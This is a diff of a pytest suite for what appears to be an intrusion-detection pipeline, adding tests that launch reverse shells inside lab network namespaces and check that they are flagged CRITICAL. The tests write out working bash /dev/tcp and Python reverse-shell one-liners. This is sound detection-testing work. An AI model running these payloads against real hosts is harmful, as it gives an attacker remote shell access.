@@ -146,34 +146,86 @@ def test_an_unknown_raw_sender_is_high_and_its_fan_out_critical(lab, pipeline):
         assert r.wait(timeout=30) == 0
 
 
+@pytest.fixture
+def session(lab):
+    """listen(addr, port): a TCP listener on the peer that holds the first
+    connection open; shell(argv, ...): a process in the dut. Both are ended
+    at teardown."""
+    listeners, shells = [], []
+
+    class Session:
+        @staticmethod
+        def listen(addr: str, port: int) -> subprocess.Popen:
+            p = subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-c", LISTEN,
+                                  addr, str(port)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+                                 text=True)
+            listeners.append(p)
+            assert p.stdout.readline().strip() == "ready"
+            return p
+
+        @staticmethod
+        def shell(*argv: str, **kw) -> subprocess.Popen:
+            p = subprocess.Popen(["ip", "netns", "exec", lab.dut, *argv], stdout=subprocess.DEVNULL,
+                                 stderr=subprocess.DEVNULL, **kw)
+            shells.append(p)
+            return p
+
+    yield Session()
+    for p in listeners:
+        p.stdin.write("\n")
+        p.stdin.close()
+        p.wait(timeout=10)
+    for p in shells:
+        p.kill()
+        p.wait()
+
+
+def reverse_shell_threat(records, target: str, port: int) -> dict:
+    return wait_until(lambda: [t for t in pending(records) if t["category"] == "reverse_shell"
+                               and t["target"] == target and t["event"]["dport"] == port],
+                      timeout=20, what=f"a reverse_shell threat to {target}:{port}")[0]
+
+
 @pytest.mark.parametrize("port", [443, 53])
-def test_bash_reverse_shell_is_critical_whatever_the_port(lab, pipeline, port):
-    listener = subprocess.Popen(["ip", "netns", "exec", lab.peer, "/usr/bin/python3", "-c", LISTEN,
-                                 lab.peer4, str(port)], stdin=subprocess.PIPE,
-                                stdout=subprocess.PIPE, text=True)
-    shell = None
-    try:
-        assert listener.stdout.readline().strip() == "ready"
-        shell = subprocess.Popen(["ip", "netns", "exec", lab.dut, "bash", "-c",
-                                  f"bash -i >& /dev/tcp/{lab.peer4}/{port} 0>&1"],
-                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        assert listener.stdout.readline().strip() == "connected"
-        threat = wait_until(lambda: [t for t in pending(pipeline) if t["category"] == "reverse_shell"
-                                     and t["event"]["dport"] == port], timeout=20,
-                            what=f"a reverse_shell threat on port {port}")[0]
-        ev = threat["event"]
-        assert threat["level"] == "CRITICAL" and threat["target"] == lab.peer4
-        assert ev["comm"] == "bash" and ev["exe"] == "/usr/bin/bash"
-        assert shell.pid in (ev["pid"], ev["ppid"])
-        assert ev["signals"]["stdio_socket"].endswith(f"tcp {lab.peer4}:{port} (ESTABLISHED)")
-        validate(dict(ev))
-    finally:
-        listener.stdin.write("\n")
-        listener.stdin.close()
-        listener.wait(timeout=10)
-        if shell is not None:
-            shell.kill()
-            shell.wait()
+def test_bash_reverse_shell_is_critical_whatever_the_port(lab, pipeline, session, port):
+    listener = session.listen(lab.peer4, port)
+    shell = session.shell("bash", "-c", f"bash -i >& /dev/tcp/{lab.peer4}/{port} 0>&1")
+    assert listener.stdout.readline().strip() == "connected"
+    threat = reverse_shell_threat(pipeline, lab.peer4, port)
+    ev = validate(dict(threat["event"]))
+    assert threat["level"] == "CRITICAL"
+    assert ev["comm"] == "bash" and ev["exe"] == "/usr/bin/bash"
+    assert shell.pid in (ev["pid"], ev["ppid"])
+    assert ev["signals"]["stdio_socket"].endswith(f"tcp {lab.peer4}:{port} (ESTABLISHED)")
+
+
+PY_SHELL = ("import socket, subprocess, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2]))); "
+            "sys.stdin.readline(); subprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)")
+
+
+@pytest.mark.parametrize("kind,port", [("bash", 80), ("python", 8080)])
+def test_a_reverse_shell_that_redirects_late_is_still_critical(lab, pipeline, session, kind, port):
+    """Connect, wait (longer than the loader's one-second hold), then put the
+    socket on stdin/stdout: bash in itself, python in the child it spawns.
+    The kernel's dup report brings the connection back, with its signal."""
+    listener = session.listen(lab.peer4b, port)
+    argv = (["bash", "-c", f"exec 3<>/dev/tcp/{lab.peer4b}/{port}; read go; exec bash -i <&3 >&3 2>&3"]
+            if kind == "bash" else ["/usr/bin/python3", "-c", PY_SHELL, lab.peer4b, str(port)])
+    shell = session.shell(*argv, stdin=subprocess.PIPE, text=True)
+    assert listener.stdout.readline().strip() == "connected"
+    first = wait_until(lambda: [e for e in judged(pipeline, shell.pid)
+                                if e["event"]["type"] == "connection"], timeout=20,
+                       what="the shell's connection, reported without a signal")
+    assert first[0]["level"] == "INFO" and "signals" not in first[0]["event"]
+    shell.stdin.write("go\n")
+    shell.stdin.flush()
+    threat = reverse_shell_threat(pipeline, lab.peer4b, port)
+    ev = validate(dict(threat["event"]))
+    assert threat["level"] == "CRITICAL" and ev["mode"] == "stdio"
+    if kind == "bash":
+        assert (ev["comm"], ev["pid"]) == ("bash", shell.pid)
+    else:   # the child python forked, before or after its exec of sh
+        assert ev["ppid"] == shell.pid and ev["comm"] in ("python3", "sh")
 
 
 def test_curl_and_http_fetches_raise_no_threat(lab, pipeline):
